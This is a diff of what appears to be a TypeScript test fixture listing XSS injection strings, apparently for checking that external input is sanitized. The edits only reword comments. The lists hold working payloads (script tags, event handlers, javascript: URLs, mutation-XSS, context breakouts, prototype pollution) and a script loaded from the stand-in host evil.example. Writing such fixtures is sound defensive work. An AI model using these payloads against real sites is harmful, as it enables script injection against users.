@@ -1,9 +1,9 @@
-/** What a payload does when it runs: it leaves a mark in the window. */
+/** The script of every payload: it sets a property of the window. */
 const run = 'window.injected=(window.injected||0)+1';
 const call = `javascript:${run}`;
 const evil = 'https://evil.example';
 
-/** Scripts, told and hidden. */
+/** Scripts, plain and obfuscated. */
 const scripts = [
   `<script>${run}</script>`,
   `<SCRIPT SRC="${evil}/x.js"></SCRIPT>`,
@@ -24,7 +24,7 @@ const scripts = [
   `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
 ] as const;
 
-/** Handlers on elements that need no help to fire, or little. */
+/** Event handlers that fire with little or no interaction. */
 const handlers = [
   `<img src=x onerror="${run}">`,
   `<img src="x" OnErRoR='${run}'>`,
@@ -52,7 +52,7 @@ const handlers = [
   `<p onpointerrawupdate=${run} onauxclick=${run}>p</p>`,
 ] as const;
 
-/** Addresses that run, and pages that load others. */
+/** Script URLs, and elements that load other pages. */
 const addresses = [
   `<a href="${call}">link</a>`,
   `<a href="JaVaScRiPt:${run}">link</a>`,
@@ -82,7 +82,7 @@ const addresses = [
   `<video poster="${evil}/poster.png" autoplay></video>`,
 ] as const;
 
-/** Text that changes what it is when it is parsed again. */
+/** Text that changes its meaning when it is parsed again. */
 const mutations = [
   `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
@@ -99,7 +99,7 @@ const mutations = [
   `<select><option><style></option></select><b><img src=x onerror=${run}></style></option>`,
 ] as const;
 
-/** Ends of what the page puts around the text: scripts, JSON, attributes, templates. */
+/** Text that closes its surroundings: scripts, JSON, attributes, templates. */
 const breakouts = [
   `</script><script>${run}</script>`,
   `"]);${run};//`,
@@ -113,7 +113,7 @@ const breakouts = [
   `{"__proto__":{"injected":1}}`,
 ] as const;
 
-/** Nothing that runs, but markup and text that could take the page apart. */
+/** No scripts, but markup and text that could break the layout. */
 const wreckers = [
   `</p></div></article></li></ol></section></main></body></html>`,
   `<div style="position:fixed;top:0;left:0;width:200vw;height:200vh;z-index:9999;background:red">cover</div>`,
@@ -129,7 +129,7 @@ const wreckers = [
   `<frameset onload=${run}><frame src="${call}"></frameset>`,
 ] as const;
 
-/** Script injections and page breakers for whatever comes from outside (design decision 6). */
+/** Script injections and page breakers for all external input (OPS-05). */
 export const injections: readonly string[] = [
   ...scripts,
   ...handlers,
